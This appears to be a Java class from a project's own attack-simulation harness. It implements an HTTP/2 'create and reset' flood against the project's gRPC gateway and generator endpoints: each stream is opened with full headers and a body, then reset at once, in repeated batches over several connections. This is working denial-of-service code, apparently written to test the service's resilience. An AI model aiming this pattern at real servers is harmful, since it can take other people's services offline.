package dev.coatcheck.cli.hostile.attack;

import dev.coatcheck.cli.hostile.wire.Frames;
import dev.coatcheck.cli.hostile.wire.Http2Connection;
import java.io.IOException;
import java.util.Set;

/** Creates that are whole, and reset as soon as they are sent: each is worth a function. */
final class CreateAndReset implements Attack {

  private static final int CONNECTIONS = 4;
  private static final int AT_ONCE = 20;

  @Override
  public String name() {
    return "create and reset";
  }

  @Override
  public Set<Door> doors() {
    return Set.of(Door.GATEWAY_GRPC, Door.GENERATOR_GRPC);
  }

  @Override
  public void strike(Attacker attacker) throws InterruptedException {
    attacker.repeat(CONNECTIONS, () -> reset(attacker));
  }

  private static void reset(Attacker attacker) throws IOException {
    byte[] head = Door.call(Creates.PATH).toBytes();
    byte[] body = Creates.message(Creates.small().build());
    Http2Connection connection = attacker.http2();
    while (!attacker.isOver()) {
      Frames frames = new Frames();
      for (int i = 0; i < AT_ONCE; i++) {
        int stream = connection.nextStream();
        frames
            .headers(stream, head, Frames.END_HEADERS)
            .data(stream, body, Frames.END_STREAM)
            .reset(stream);
      }
      attacker.entitled(AT_ONCE);
      connection.send(frames);
    }
  }
}
